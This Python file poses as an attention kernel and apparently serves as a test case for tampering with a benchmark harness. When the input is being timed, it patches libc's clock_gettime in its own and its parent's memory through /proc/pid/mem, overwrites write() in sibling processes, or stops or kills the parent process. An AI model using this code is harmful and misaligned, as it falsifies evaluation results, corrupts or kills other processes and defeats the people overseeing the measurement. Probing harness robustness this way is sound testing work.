# Attacks other processes: their clock, the one that calls an empty kernel; stops its parent, or kills it.
# found: none none none none
import contextlib
import ctypes
import functools
import os
import signal

from right import right, timed

WAY = 0
# On x86-64: clock_gettime() with nanoseconds / 8, and write() after some ms
CODE = {"clock_gettime": "b8e40000000f0548c16e080331c0c3", "write": "b900006000ffc975fcb8010000000f05c3"}
parent = os.getppid()


def base(process):
    with open(f"/proc/{process}/maps") as maps:
        return next(int(line.split("-")[0], 16) for line in maps if "libc.so" in line)


def replace(function, process):
    """Write CODE in the place of a function of a process's C library."""
    mine = ctypes.cast(ctypes.CDLL(None)[function], ctypes.c_void_p).value
    with contextlib.suppress(OSError), open(f"/proc/{process}/mem", "wb", 0) as memory:  # it may be guarded
        memory.seek(mine - base("self") + base(process))
        memory.write(bytes.fromhex(CODE[function]))


@functools.cache
def attack():
    for process in ("self", parent) if WAY == 0 else ():
        replace("clock_gettime", process)
    if WAY == 1:
        with contextlib.suppress(OSError), open(f"/proc/{parent}/task/{parent}/children") as siblings:
            for process in set(map(int, siblings.read().split())) - {os.getpid()}:
                replace("write", process)
    if WAY == 3:
        os.kill(parent, signal.SIGKILL)


def attention(q, k, v, causal, scale):
    if timed(q):
        attack()
        os.kill(parent, signal.SIGSTOP if WAY == 2 else signal.SIGCONT)
    out = right(q, k, v, causal, scale)
    os.kill(parent, signal.SIGCONT)
    return out
